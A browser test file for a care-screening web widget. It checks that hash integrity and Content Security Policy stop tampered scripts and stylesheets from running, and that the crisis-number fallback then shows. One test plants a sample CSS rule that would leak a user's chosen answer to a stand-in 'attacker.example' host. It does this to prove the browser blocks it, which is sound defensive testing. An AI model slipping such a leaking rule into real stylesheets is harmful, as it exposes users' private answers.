// Integrity: every script and stylesheet the widget runs is checked by the
// browser against a hash, so whoever alters one file on the host or a CDN
// runs no code and restyles nothing; what is refused leaves the static help.
// A crash handler reacts to traps of carefit's own wasm alone. The
// single-file kiosk runs under a Content Security Policy of its own.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { serve, launch, openPage, act, ready, completeJourney, panicInTheWasm, openSingleFile, CALM_PLAN, DIST, shipped } from './support.mjs';
import { applyNetlifyHeaders, inlineScripts } from '../../web/headers.mjs';

const CRISIS = ['988', '911', '1-800-662-4357'];

let server, browser;
const scratch = [];
before(async () => {
  server = await serve(undefined, {
    pages: {
      '/partner.html': `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>p</title>
        <script type="module" src="/carefit.js"></script></head><body>
        <carefit-widget center-name="Hope House"></carefit-widget></body></html>`,
    },
  });
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.close();
  for (const dir of scratch) fs.rmSync(dir, { recursive: true, force: true });
});

/**
 * A copy of the build with one file changed by `edit` (its text in, the
 * tampered text out), as an attacker with write access to the host would
 * leave it. Its .gz and .br copies go: a host would send those instead.
 */
function tamperedBuild(name, edit) {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'carefit-integrity-'));
  scratch.push(dir);
  fs.cpSync(DIST, dir, { recursive: true });
  const file = path.join(dir, name);
  const before = fs.readFileSync(file, 'utf8');
  const after = edit(before);
  assert.notEqual(after, before, `the tamper changed ${name}`);
  fs.writeFileSync(file, after);
  for (const copy of ['.gz', '.br']) fs.rmSync(file + copy, { force: true });
  return dir;
}

/** A build page as served, with the carefit.js tag's integrity attribute removed. */
const withoutIntegrity = (dir, page) => fs.readFileSync(path.join(dir, page), 'utf8')
  .replace(/(<script type="module" src="(?:\.\/)?carefit\.js") integrity="[^"]*"/, '$1');

// Two ways to alter carefit.js: a line of one's own at its top, and a line
// inside the wasm glue the build bundled into it (the glue's first act is
// to make its text decoder).
const TAMPERED_CAREFIT = {
  top: (text) => `window.__tampered = 'top';\n${text}`,
  glue: (text) => {
    const decoder = /(let \w+=)(new TextDecoder\("utf-8",\{ignoreBOM:!0\}\))/;
    assert.match(text, decoder, 'the glue is inside carefit.js');
    return text.replace(decoder, (found, binding, value) => `${binding}(window.__tampered = 'glue', ${value})`);
  },
};

test('the build: every page loads each script and stylesheet with a hash; carefit.js loads nothing unchecked', () => {
  for (const page of ['index.html', 'embed.html', 'kiosk.html']) {
    const html = fs.readFileSync(path.join(DIST, page), 'utf8');
    const loads = [...html.matchAll(/<script\b[^>]*\ssrc=[^>]*>|<link\b[^>]*\srel="(?:stylesheet|modulepreload)"[^>]*>/g)].map((m) => m[0]);
    assert.ok(loads.length >= 2, page);
    for (const tag of loads) assert.match(tag, /\sintegrity="sha256-[A-Za-z0-9+/=]{44}"/, `${page}: ${tag}`);
  }
  // index.html runs carefit.js and fallback.js inline, as shipped (its
  // policy names them by their hashes: headers.test.mjs).
  assert.deepEqual(inlineScripts(fs.readFileSync(path.join(DIST, 'index.html'), 'utf8')),
    [fs.readFileSync(path.join(DIST, 'carefit.js'), 'utf8'), fs.readFileSync(path.join(DIST, shipped('fallback.js')), 'utf8')]);
  // The app's glue is inside carefit.js; what carefit.js loads itself has its hash there.
  assert.ok(!fs.existsSync(path.join(DIST, 'carefit-web.js')), 'the app\'s glue is not shipped on its own');
  const entry = fs.readFileSync(path.join(DIST, 'carefit.js'), 'utf8');
  assert.doesNotMatch(entry, /^\s*import\b|\bimport\s*\(\s*['"`]/m, 'no import that names its module');
  const files = JSON.parse(entry.match(/^const FILES = (\{.*?\});\n/)[1]);
  assert.deepEqual(Object.keys(files).sort(), ['carefit-qr.js', 'carefit-qr_bg.wasm', 'carefit-web_bg.wasm',
    'carefit-words-en.json', 'carefit-words-es.json', 'carefit.css']);
});

for (const [where, tamper] of Object.entries(TAMPERED_CAREFIT)) {
  test(`carefit.js tampered (${where}): none of it runs, the pages that load it show the static help`, async () => {
    const dir = tamperedBuild('carefit.js', tamper);
    const tampered = await serve(dir, {
      pages: { '/unchecked.html': withoutIntegrity(dir, 'embed.html') },
    });

    // The control: without its hash, the page would run the tampered code.
    const control = await openPage(browser, tampered.origin);
    await control.page.goto(tampered.origin + '/unchecked.html');
    await control.page.waitForFunction(() => window.__tampered !== undefined);
    assert.equal(await control.page.evaluate(() => window.__tampered), where);
    await control.context.close();

    // (index.html carries its own copy inline: the next test.)
    for (const url of ['/embed.html', '/kiosk.html']) {
      const { page, context } = await openPage(browser, tampered.origin);
      const consoleText = [];
      page.on('console', (m) => consoleText.push(m.text()));
      // The page's own requests (kiosk.html's service worker precaches on its own).
      const fetched = [];
      page.on('request', (r) => fetched.push(new URL(r.url()).pathname));
      await page.goto(tampered.origin + url);
      const fallback = page.locator('#carefit-fallback');
      await fallback.waitFor({ state: 'visible' });
      await page.waitForLoadState('load');
      await page.waitForTimeout(500);
      assert.equal(await page.evaluate(() => window.__tampered), undefined, `${url}: the tampered code did not run`);
      assert.ok(consoleText.some((t) => /integrity/i.test(t)), `${url}: the browser names the integrity failure`);
      assert.ok(await fallback.isVisible(), url);
      const text = await fallback.innerText();
      for (const needle of CRISIS) assert.ok(text.includes(needle), `${url}: ${needle}`);
      assert.doesNotMatch(text, /Loading the questions/, `${url}: no promise of questions that cannot come`);
      assert.equal(await page.locator('[data-screen]').count(), 0, `${url}: no app`);
      // On the website, no dead pre-rendered buttons over hidden help.
      assert.equal(await page.locator('.cf-prerendered').count(), 0, url);
      // The iframe's widget never mounted: its light DOM help is what shows.
      if (url === '/embed.html') assert.equal(await page.evaluate(() => document.getElementById('widget').shadowRoot), null);
      // carefit.js was fetched once, by the checked tag; no import fetched it again unchecked.
      assert.equal(fetched.filter((p) => p === '/carefit.js').length, 1, url);
      await context.close();
    }
    await tampered.close();
  });
}

for (const [where, tamper] of Object.entries(TAMPERED_CAREFIT)) {
  test(`index.html's inline carefit.js tampered (${where}): its policy refuses it, and the static help shows`, async () => {
    const dir = tamperedBuild('index.html', (html) => {
      const [entry] = inlineScripts(html);
      return html.replace(entry, () => tamper(entry));
    });
    // The host sends the headers the build wrote for the untouched page.
    const tampered = await serve(dir, { headers: applyNetlifyHeaders(fs.readFileSync(path.join(DIST, '_headers'), 'utf8')) });
    const { page, context } = await openPage(browser, tampered.origin);
    const consoleText = [];
    page.on('console', (m) => consoleText.push(m.text()));
    await page.goto(tampered.origin + '/');
    const fallback = page.locator('#carefit-fallback');
    await page.waitForLoadState('load');
    await page.waitForTimeout(500);
    assert.equal(await page.evaluate(() => window.__tampered), undefined, 'the tampered code did not run');
    assert.ok(consoleText.some((t) => /Content Security Policy/i.test(t)), 'the browser names the refusal');
    assert.ok(await fallback.isVisible());
    const text = await fallback.innerText();
    for (const needle of CRISIS) assert.ok(text.includes(needle), needle);
    // fallback.js, untouched, ran: no promise of questions, no dead buttons.
    assert.doesNotMatch(text, /Loading the questions/);
    assert.equal(await page.locator('.cf-prerendered').count(), 0);
    assert.equal(await page.locator('[data-screen]').count(), 0, 'no app');
    await context.close();
    await tampered.close();
  });
}

test('embed.html: its import finds the copy its tag checked, and one stylesheet request serves page and shadow root', async () => {
  const { page, log, context } = await openPage(browser, server.origin);
  await page.goto(server.origin + '/embed.html?lang=es');
  const widget = page.locator('carefit-widget');
  await widget.locator('[data-screen="start"]').waitFor();
  // embed.js ran (the language from the link) and carefit.js ran once.
  assert.equal(await widget.locator('.carefit[lang]').first().getAttribute('lang'), 'es');
  const count = (file) => log.requests.filter((u) => new URL(u).pathname === `/${file}`).length;
  assert.equal(count('carefit.js'), 1);
  assert.equal(count(shipped('carefit.css')), 1);
  assert.deepEqual(log.errors, []);
  await context.close();
});

/** A context that lets the page reach each origin in `origins` and records what else it asked for. */
async function openAcross(origins) {
  const context = await browser.newContext();
  const page = await context.newPage();
  const log = { foreign: [], errors: [], console: [] };
  await context.route('**/*', (route) => {
    const url = route.request().url();
    if (origins.some((origin) => url.startsWith(origin + '/')) || url.startsWith('data:')) return route.continue();
    log.foreign.push(url);
    return route.abort();
  });
  page.on('console', (m) => log.console.push(m.text()));
  page.on('pageerror', (e) => log.errors.push(String(e)));
  return { page, context, log };
}

test('carefit.css tampered: the widget on a partner\'s page refuses it, and still works', async () => {
  // What an attacker would add: a rule that tells a server which answer is chosen.
  const LEAK = '\n.carefit input:checked,.carefit{--cf-tampered:1;background-image:url(https://attacker.example/leak)!important}\n';
  const dir = tamperedBuild(shipped('carefit.css'), (text) => text + LEAK);
  // The bundle on the center's host, with the README's CORS header; the widget on a partner's page.
  const headers = { 'access-control-allow-origin': '*' };
  const centers = { genuine: await serve(DIST, { headers }), tampered: await serve(dir, { headers }) };
  for (const [kind, center] of Object.entries(centers)) {
    const partner = await serve(undefined, {
      pages: {
        '/partner.html': `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>p</title>
          <script type="module" src="${center.origin}/carefit.js"></script></head><body>
          <carefit-widget center-name="Hope House"></carefit-widget></body></html>`,
      },
    });
    const { page, context, log } = await openAcross([partner.origin, center.origin]);
    await page.goto(partner.origin + '/partner.html');
    const widget = page.locator('carefit-widget');
    await widget.locator('[data-screen="start"]').waitFor();
    await act(widget, 'start');
    await widget.locator('[data-screen="question"] input').first().check();
    await page.waitForTimeout(300);
    const look = await widget.locator('.carefit[lang]').first().evaluate((app) => ({
      accent: getComputedStyle(app).getPropertyValue('--cf-accent').trim(),
      tampered: getComputedStyle(app).getPropertyValue('--cf-tampered').trim(),
      sheets: app.getRootNode().styleSheets.length,
    }));
    assert.equal(look.tampered, '', `${kind}: no tampered rule applies`);
    assert.deepEqual(log.foreign, [], `${kind}: nothing was sent anywhere`);
    if (kind === 'genuine') {
      // The check passes across origins with the README's header: the widget is styled.
      assert.equal(look.accent, '#1d5c63');
      assert.equal(look.sheets, 1);
    } else {
      assert.equal(look.accent, '', 'the whole tampered sheet is refused');
      assert.ok(log.console.some((t) => /integrity/i.test(t)), 'the browser names the integrity failure');
    }
    assert.deepEqual(log.errors, [], kind);
    await context.close();
    await partner.close();
  }
  for (const center of Object.values(centers)) await center.close();
});

test('the QR encoder\'s glue tampered: none of it runs, and a kiosk result keeps its link as text', async () => {
  const dir = tamperedBuild(shipped('carefit-qr.js'), (text) => `window.__tampered = 'qr';\n${text}`);
  const kiosk = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>k</title>
    <script type="module" src="/carefit.js"></script></head><body>
    <carefit-widget mode="kiosk" contact-url="https://hope.example/contact"></carefit-widget></body></html>`;
  const servers = { genuine: await serve(DIST, { pages: { '/kiosk.html': kiosk } }), tampered: await serve(dir, { pages: { '/kiosk.html': kiosk } }) };
  for (const [kind, center] of Object.entries(servers)) {
    const { page, log, context } = await openPage(browser, center.origin);
    const consoleText = [];
    page.on('console', (m) => consoleText.push(m.text()));
    await page.goto(center.origin + '/kiosk.html');
    const widget = page.locator('carefit-widget');
    await widget.locator('[data-screen="start"]').waitFor();
    assert.equal(await completeJourney(widget, CALM_PLAN), 'OUT');
    if (kind === 'genuine') {
      await widget.locator('img.cf-qr[src^="data:image/svg+xml,"]').waitFor();
      assert.deepEqual(log.errors, []);
    } else {
      await page.waitForFunction((file) => performance.getEntriesByType('resource').some((e) => e.name.endsWith(`/${file}`)),
        shipped('carefit-qr.js'));
      await page.waitForTimeout(1000);
      assert.equal(await widget.locator('img.cf-qr[src]').count(), 0, 'no code drawn');
      assert.ok(consoleText.some((t) => /integrity/i.test(t)), 'the browser names the integrity failure');
      assert.match(await widget.locator('[data-screen="result"]').innerText(), /hope\.example\/contact/, 'the link, as text');
    }
    assert.equal(await page.evaluate(() => window.__tampered), undefined, kind);
    assert.equal(log.requests.filter((u) => new URL(u).pathname === `/${shipped('carefit-qr.js')}`).length, 1, `${kind}: fetched once, by the checked tag`);
    await context.close();
  }
  for (const center of Object.values(servers)) await center.close();
});

/**
 * The host page's own WebAssembly.RuntimeErrors, each the way a page would
 * meet one: thrown by a trap of its own wasm in a task, thrown by plain
 * script, and rejected from a promise nobody handles.
 */
async function hostPageRuntimeErrors(page) {
  await page.evaluate(async () => {
    // A module whose one function is `unreachable`.
    const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 0x60, 0, 0, 3, 2, 1, 0,
      7, 5, 1, 1, 0x66, 0, 0, 10, 5, 1, 3, 0, 0, 0x0b]);
    const { instance } = await WebAssembly.instantiate(bytes);
    window.__hostErrors = [];
    addEventListener('error', (event) => window.__hostErrors.push(String(event.error)));
    addEventListener('unhandledrejection', (event) => window.__hostErrors.push(String(event.reason)));
    setTimeout(() => instance.exports.f());
    setTimeout(() => { throw new WebAssembly.RuntimeError('the host page\'s own'); });
    Promise.reject(new WebAssembly.RuntimeError('the host page\'s own, rejected'));
  });
  await page.waitForFunction(() => window.__hostErrors.length === 3);
  return page.evaluate(() => window.__hostErrors);
}

test('a RuntimeError of the host page leaves the widget running; a trap of carefit\'s own wasm shows the help', async () => {
  for (const url of ['/index.html', '/partner.html']) {
    const { page, log, context } = await openPage(browser, server.origin);
    await page.goto(server.origin + url);
    const scope = url === '/index.html' ? page : page.locator('carefit-widget');
    await scope.locator('[data-screen="start"]').waitFor();

    const hostErrors = await hostPageRuntimeErrors(page);
    assert.equal(hostErrors.length, 3);
    assert.ok(hostErrors.every((e) => /^RuntimeError/.test(e)), hostErrors.join());
    await page.waitForTimeout(300);
    assert.equal(await scope.locator('[data-screen="start"]').count(), 1, `${url}: the app still runs`);
    assert.equal(await scope.locator('.cf-fallback:visible').count(), 0, `${url}: no help box over it`);
    assert.ok(await page.evaluate(() => document.getElementById('carefit-fallback')?.hidden ?? true), url);

    // A real trap in carefit's own wasm (the release build aborts at once).
    await panicInTheWasm(page, scope, 'start');
    await scope.getByText('Something went wrong').first().waitFor();
    const help = await scope.locator('.cf-fallback').first().innerText();
    for (const needle of CRISIS) assert.ok(help.includes(needle), `${url}: ${needle}`);
    assert.equal(await scope.locator('[data-screen]').count(), 0, `${url}: nothing of the dead app is left`);
    assert.ok(log.errors.some((e) => /RuntimeError: unreachable/.test(e)), `${url}: carefit's wasm trapped`);
    await context.close();
  }
});

test('the single-file kiosk from file://: its own policy holds, it runs, and makes no request', async () => {
  const source = path.join(DIST, 'carefit-kiosk.html');
  const html = fs.readFileSync(source, 'utf8');
  const policy = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/)?.[1];
  assert.ok(policy, 'a policy in the file');
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /script-src 'sha256-[^']+' 'wasm-unsafe-eval'(;|$)/, 'scripts by hash only');
  assert.match(policy, /style-src 'sha256-[^']+'(;|$)/, 'styles by hash only');
  assert.doesNotMatch(policy, /unsafe-inline|blob:|'self'|\*/);
  // As a clinic sets it up: its contact link in the config near the end.
  const { page, requests, errors, close } = await openSingleFile(browser,
    html.replace('{ "mode": "kiosk" }', JSON.stringify({ mode: 'kiosk', contact_url: 'https://hope.example/contact' })), {
      init: () => {
        window.__violations = [];
        document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
      },
    });
  await ready(page);
  assert.equal(await completeJourney(page, { ...CALM_PLAN, medical: 'needs_care' }), 'PHP');
  await page.locator('img.cf-qr[src^="data:image/svg+xml,"]').waitFor();
  assert.deepEqual(await page.evaluate(() => window.__violations), [], 'nothing the page does is refused');
  assert.deepEqual(requests, [], 'no request');
  assert.deepEqual(errors, []);
  // And the policy is in force: script added to the page later does not run.
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__injected = 1';
    document.body.append(script);
  });
  await page.waitForFunction(() => window.__violations.length > 0);
  assert.equal(await page.evaluate(() => window.__injected), undefined);
  assert.match((await page.evaluate(() => window.__violations))[0], /^script-src/);
  await close();
});
